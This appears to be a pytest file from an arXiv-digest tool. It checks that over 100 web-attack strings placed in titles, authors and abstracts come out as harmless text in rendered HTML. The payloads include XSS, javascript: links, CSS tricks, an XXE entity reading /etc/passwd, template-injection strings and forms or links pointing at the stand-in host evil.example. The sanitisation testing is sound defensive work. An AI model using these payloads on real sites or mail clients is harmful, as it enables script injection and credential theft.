"""Attacks on mail readers and browsers, written in every place that strangers write in.

What is made of them is parsed again, and held to the tags, attributes and addresses allowed.
"""

import re
from collections.abc import Iterator
from datetime import date
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from arxivdigest import digest
from arxivdigest.config import Config
from arxivdigest.model import AnnounceType, Entry, Listing
from arxivdigest.output import templating, wording
from arxivdigest.output.wording import DigestWords
from arxivdigest.rules import Rule
from arxivdigest.rules.conditions import FIELDS, AnyKeyword
from arxivdigest.rules.keywords import keyword

# Harmful wherever they are taken for markup.
MARKUP = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src='x'/onerror='alert(1)'>
<img srcset="//evil.example/1.png 1x">
<IMG SRC=&#106;avascript:alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>
<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>
<math><mtext></p><img src=x onerror=alert(1)></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<style>*{background:url(//evil.example/x)}</style>
<style>@import '//evil.example/x.css';</style>
<link rel=stylesheet href=//evil.example/x.css>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>
<xss style="-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)">x</xss>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<embed src="//evil.example/x.swf">
<applet code="x.class"></applet>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example/">
<meta http-equiv=Set-Cookie content="a=b">
<form action="//evil.example/"><input name=password type=password></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<textarea></textarea><script>alert(1)</script>
<select><option><script>alert(1)</script></option></select>
<video poster="//evil.example/x.png"><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<body onload=alert(1) background="//evil.example/x.png">
<table background="//evil.example/x.png"><tr><td>x
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="java&#09;script:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="https://arxiv.org" ping="//evil.example/">x</a>
<p onclick=alert(1)>x</p>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</p></td></tr></table></body></html><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--[if gte mso 9]><v:image src="//evil.example/x.png"/><![endif]-->
<!-- x --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<template><script>alert(1)</script></template>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=x></style></mglyph></form>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing><plaintext>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<custom-element onpointerrawupdate=alert(1)>x</custom-element>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
""".strip().splitlines()

# Harmful in an attribute that is not closed to them.
BREAK_OUTS = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" style="background:url(//evil.example/x)
" srcset="//evil.example/x 1x
""".strip().splitlines()

# Harmful as the address of a link.
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://example.org/%0aalert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "java\0script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "feed:javascript:alert(1)",
    "view-source:https://example.org/",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "x-apple-data-detectors://1",
    "tel:+1",
]

# Harmful to what reads templates, styles, or letters that look like others.
OTHERS = [
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}",
    "${7*7} <%= 7*7 %> #{7*7}",
    "</style>}*{x:y}",
    r"\3c script\3e alert(1)\3c /script\3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<tpircs>\u202d",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\0script>alert(1)</\0script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\ud83c<script>\udf00",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "https://example.org/`onmouseover=alert(1)",
    r"\href{javascript:alert(1)}{x}",
    r"$\href{javascript:alert(1)}{x}$",
    r"\url{javascript:alert(1)} \input{/etc/passwd}",
]
PAYLOADS = [*MARKUP, *BREAK_OUTS, *ADDRESSES, *OTHERS]

ALLOWED = {
    "html": {"lang"},
    "head": set(),
    "meta": {"charset", "name", "content", "http-equiv"},
    "title": set(),
    "style": set(),
    "body": {"style"},
    "main": set(),
    "header": set(),
    "nav": {"id", "aria-label"},
    "details": {"open"},
    "summary": set(),
    "section": set(),
    "article": {"id", "class"},
    "footer": set(),
    "table": {"role", "class", "width", "cellpadding", "cellspacing", "border", "style"},
    "tbody": set(),
    "tr": {"class"},
    "td": {"align", "class", "style"},
    "div": {"class", "style"},
    "h1": {"style"},
    "h2": {"class", "style"},
    "h3": set(),
    "p": {"style", "class", "id"},
    "ol": {"start"},
    "li": {"class"},
    "a": {"href", "id", "name", "style"},
    "b": {"style"},
    "br": set(),
    "mark": {"style"},
    "span": {"class", "style", "title"},
    "pre": set(),
}
HARMFUL_STYLE = re.compile(
    r"url\s*\(|expression|@import|binding|behavior|position|\\|/\*|<", re.IGNORECASE
)


class Oddities(HTMLParser):
    """What is no tag and no text, as the standard library reads it; and its tags and attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.tags: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags += [(tag, name, value or "") for name, value in attrs] or [(tag, "", "")]

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    def handle_pi(self, data: str) -> None:
        self.found.append(data)

    def unknown_decl(self, data: str) -> None:
        self.found.append(data)

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.found.append(decl)


def all_nodes(html: str) -> list[LexborNode]:
    return LexborHTMLParser(html).css("*")


def assert_harmless(html: str) -> None:
    """Nothing in the page but what is allowed, however it is read."""
    read = Oddities(html)
    assert not read.found
    nodes = all_nodes(html)
    tags = [
        *read.tags,
        *((str(node.tag), name, value or "") for node in nodes for name, value in attributes(node)),
    ]
    for tag, name, value in tags:
        assert tag in ALLOWED
        assert not name or name in ALLOWED[tag]
        if name == "href":
            assert_harmless_address(value)
        if name == "style":
            assert not HARMFUL_STYLE.search(unescape(value))
    for node in nodes:
        if node.tag == "style":
            assert not HARMFUL_STYLE.search(node.text())
    metas = [dict(attributes(node)) for node in nodes if node.tag == "meta"]
    assert {meta.get("http-equiv") for meta in metas} <= {None, "Content-Security-Policy"}


def attributes(node: LexborNode) -> Iterator[tuple[str, str | None]]:
    yield from node.attributes.items() or [("", None)]


def assert_harmless_address(address: str) -> None:
    bare = re.sub(r"[\x00-\x20]", "", unescape(address)).lower()
    assert re.match(r"https?://[^/\\]|mailto:|#|$", bare), address


def attacked(payload: str) -> DigestWords:
    """A digest with the payload everywhere, by itself, hit by a rule, and amid other text."""
    entry = Entry(
        arxiv_id="2507.00001",
        version=1,
        announce_type=AnnounceType.NEW,
        title=payload,
        authors=(payload, f"Ann {payload} Lee"),
        primary_category=payload,
        categories=(payload, "cs.DC"),
        abstract=f"{payload}\nA pelican: {payload}, https://example.org/{payload}",
        comments=payload,
        journal_ref=payload,
        doi=payload,
        license=payload,
        formats=("pdf", "html"),
    )
    other = entry._replace(arxiv_id="2507.00002", title=f"pelican{payload} {payload}alert")
    listing = Listing(
        source="page",
        subjects=(payload,),
        announced=date(2025, 7, 11),
        entries=(entry, other),
        problems=(payload,),
        notes=(payload,),
    )
    asks = AnyKeyword((keyword("pelican"), keyword("alert*"), keyword("/[<>\"'&]+/")), FIELDS)
    words = wording.words(digest.build([listing], Config(rules=(Rule(payload, (asks,)),))))
    return words._replace(has_contents=True)


OWN = """
{% from "parts.html.j2" import pieces, names as name_line, categories %}
<!doctype html>
<title>{{ title }}</title>
<h1 style="{{ "x" }}">{{ headline }}</h1>
{% for section in sections %}{% for entry in section.entries %}
<p><span title="{{ entry.title | plain }}">{{ entry.title | plain }}</span></p>
<p><span title='{{ entry | names }}'>{{ entry | names }}</span> {{ name_line(entry) }}</p>
<p>{{ title | markdown }} {{ entry.title | markdown_pieces }}</p>
<pre>{{ entry.comments | plain | wrap }}</pre>
<p><a href="{{ entry.title | plain | address }}">{{ entry.title | plain | address }}</a></p>
<p><a href='{{ entry.comments | plain | address }}'>{{ categories(entry) }}</a></p>
<p><a href={{ entry.journal_ref | plain | address }}>x</a></p>
<p>{{ entry.primary_category | subject_name }} {{ pieces(entry.title) }} {{ verdict.message }}</p>
{% for paragraph in entry.abstract %}{{ pieces(paragraph, mark="color:red", link="color:red") }}
{% for piece in paragraph %}<a href={{ piece.address | address }}>{{ piece.text }}</a>{% endfor %}
{% endfor %}
{% endfor %}{% endfor %}
"""


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a template that uses what is documented, in every kind of place."""
    folder = tmp_path_factory.mktemp("templates")
    (folder / "digest.card.html.j2").write_text(OWN)
    return folder


NAMES = ["message.html.j2", "digest.html.j2", "digest.card.html.j2"]


@pytest.fixture(scope="module")
def settled(own: Path) -> dict[str, set[tuple[str, str | None]]]:
    """By template, the attributes in it that no text can change."""
    return {name: fixed(templating.render_template(attacked("x"), name, own)) for name in NAMES}


def fixed(html: str) -> set[tuple[str, str | None]]:
    return {
        pair
        for node in all_nodes(html)
        for pair in attributes(node)
        if pair[0] not in ("href", "title", "")
    }


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_is_text(
    payload: str, name: str, own: Path, settled: dict[str, set[tuple[str, str | None]]]
) -> None:
    words = attacked(payload)
    html = templating.render_template(words, name, own)
    assert_harmless(html)
    assert_harmless(LexborHTMLParser(html).html or "")
    assert fixed(html) <= settled[name]
    text = "".join(LexborHTMLParser(html).text().split())
    for entry in words.sections[0].entries:
        assert "".join("".join(piece.text for piece in entry.title).split()) in text
    assert "".join(words.verdict.message.split()) in text


@pytest.mark.parametrize("payload", MARKUP)
def test_the_check_finds_markup(payload: str) -> None:
    with pytest.raises(AssertionError):
        assert_harmless(f"<!DOCTYPE html><html><body><p>{payload}</p></body></html>")


@pytest.mark.parametrize("payload", BREAK_OUTS)
def test_the_check_finds_attributes(payload: str) -> None:
    quote = payload[0]
    with pytest.raises(AssertionError):
        assert_harmless(f"<p><span title={quote}{payload}{quote}>x</span></p>")


@pytest.mark.parametrize("payload", ADDRESSES)
def test_the_check_finds_addresses(payload: str) -> None:
    with pytest.raises(AssertionError):
        assert_harmless(f'<p><a href="{payload}">x</a></p>')


def test_there_are_more_than_sixty_attacks() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) > 100
